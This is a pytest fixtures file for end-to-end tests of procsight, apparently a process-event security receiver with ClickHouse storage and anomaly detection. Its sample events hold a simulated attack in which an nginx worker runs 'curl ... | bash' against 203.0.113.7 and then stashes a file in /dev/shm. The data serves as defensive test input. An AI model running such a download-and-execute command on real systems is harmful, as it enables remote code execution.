"""End-to-end fixtures: a real procsight receiver on loopback, an OTLP endpoint it forwards to, and
the process events the clients send.

The receiver runs in the test process (`Service`), so its ClickHouse rows are read back through the
same embedded chdb engine (one path per process); the crash test runs `procsight receiver` as a
subprocess instead.
"""

from __future__ import annotations

import contextlib
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml

import testing
from otlp_receiver.exporters.clickhouse.transport import ChdbTransport
from otlp_receiver.service import Service
from testing.otlp_sink import OtlpSink

TABLE = "procsight.security_events"

# A web server whose worker spawns a shell that pipes a download into bash, amid routine commands.
# (pid, parent pid, executable, command line, parent executable, uid)
WEB_EVENTS: list[tuple[int, int, str, str, str, int]] = [
    (100, 1, "nginx", "nginx -g daemon off;", "systemd", 0),
    (101, 100, "nginx", "nginx: worker process", "nginx", 33),
    (150, 1, "logrotate", "logrotate /etc/logrotate.conf", "systemd", 0),
    (151, 150, "gzip", "gzip -9 /var/log/nginx/access.log.1", "logrotate", 0),
    (200, 101, "sh", "sh -c curl -s http://203.0.113.7/x.sh | bash", "nginx", 33),
    (201, 200, "curl", "curl -s http://203.0.113.7/x.sh", "sh", 33),
    (202, 200, "bash", "bash", "sh", 33),
    (203, 202, "cp", "cp /tmp/.x /dev/shm/.x", "bash", 33),
]


def event_attributes(pid: int, ppid: int, exe: str, command: str, parent: str, uid: int) -> dict[str, Any]:
    """The attributes of one exec as our agent sends them (docs/records.md)."""
    return {
        "process.pid": pid, "process.parent_pid": ppid, "process.executable.name": exe,
        "process.executable.path": f"/usr/bin/{exe}", "process.command_line": command,
        "process.command_args": command.split(), "process.user.id": uid,
        "process.parent.executable.name": parent, "process.working_directory": "/",
    }


def web_resource(workload: str = "web") -> dict[str, str]:
    return {"service.name": "procsight-agent", "host.name": "web-1", "procsight.workload": workload}


def receiver_config(data_dir: Path, exporters: dict[str, Any], grpc: str = "127.0.0.1:0",
                    http: str = "127.0.0.1:0") -> dict[str, Any]:
    """A complete receiver YAML: otlp in, batch + anomaly, clickhouse on chdb plus `exporters`, the query routes."""
    fast_retry = {"initial_interval": "100ms", "max_interval": "500ms"}
    all_exporters = {"clickhouse": {"endpoint": f"chdb://{data_dir / 'clickhouse'}", "retry_on_failure": fast_retry}}
    for name, settings in exporters.items():
        all_exporters[name] = {**settings, "retry_on_failure": fast_retry}
    return {
        "receivers": {"otlp": {"protocols": {"grpc": {"endpoint": grpc}, "http": {"endpoint": http}}}},
        "processors": {
            "batch": {"timeout": "100ms", "send_batch_size": 1000},
            # No warm-up: the tests send a handful of events to fresh baselines and want full severities.
            "anomaly": {"baselines": str(data_dir / "baselines"), "learning": {"warmup_events": 0}},
        },
        "exporters": all_exporters,
        "extensions": {"query": {"exporter": "clickhouse"}},
        "service": {"data_dir": str(data_dir), "shutdown_timeout": "10s", "extensions": ["query"],
                    "pipelines": {"logs": {"receivers": ["otlp"], "processors": ["batch", "anomaly"],
                                           "exporters": list(all_exporters)}}},
    }


def write_config(path: Path, config: dict[str, Any]) -> Path:
    path.write_text(yaml.safe_dump(config, sort_keys=False), encoding="utf-8")
    return path


@dataclass
class Stack:
    service: Service
    sink: OtlpSink
    clickhouse: ChdbTransport

    def rows(self, expected: int, timeout: float = 60.0, workload: str | None = None) -> list[dict[str, Any]]:
        """Waits until `expected` rows (of `workload`'s resources, if given) are queryable, then returns them."""
        return wait_for_rows(self.clickhouse, expected, timeout, workload)


def wait_for_rows(clickhouse: ChdbTransport, expected: int, timeout: float = 60.0,
                  workload: str | None = None) -> list[dict[str, Any]]:
    where = "({workload:String} = '' OR ResourceAttributes['procsight.workload'] = {workload:String})"
    params = {"workload": workload or ""}
    deadline = time.monotonic() + timeout
    count = 0
    while time.monotonic() < deadline:
        try:
            count = clickhouse.query(f"SELECT count() AS n FROM {TABLE} WHERE {where}", params)[0]["n"]
        except Exception:  # the table appears with the first export
            count = 0
        if count >= expected:
            break
        time.sleep(0.1)
    assert count == expected, f"expected {expected} rows in ClickHouse, found {count}"
    return clickhouse.query(f"SELECT * FROM {TABLE} WHERE {where} ORDER BY Timestamp, RecordId", params)


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    """procsight with a clickhouse exporter and an `otlp` (gRPC) exporter to a sink the test runs; shared by
    a module's tests (starting a receiver costs seconds), which keep apart by workload."""
    tmp_path = tmp_path_factory.mktemp("stack")
    with OtlpSink() as sink:
        forward = {"endpoint": sink.grpc_endpoint, "tls": {"insecure": True}}
        with running_stack(tmp_path, receiver_config(tmp_path, {"otlp_grpc/forward": forward}), sink) as stack:
            yield stack


@contextlib.contextmanager
def running_stack(tmp_path: Path, config: dict[str, Any], sink: OtlpSink) -> Iterator[Stack]:
    """The receiver of `config` started, with the embedded ClickHouse it writes opened for reading."""
    service = Service.from_config_file(write_config(tmp_path / "receiver.yaml", config))
    service.start()
    clickhouse = ChdbTransport(str(tmp_path / "clickhouse"))
    try:
        yield Stack(service, sink, clickhouse)
    finally:
        clickhouse.close()
        service.shutdown(timeout=10)


@pytest.fixture(scope="session")
def self_signed_cert(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """A certificate for 127.0.0.1 and localhost (openssl CLI), for TLS tests: (cert.pem, key.pem)."""
    return testing.self_signed_cert(tmp_path_factory.mktemp("tls"))
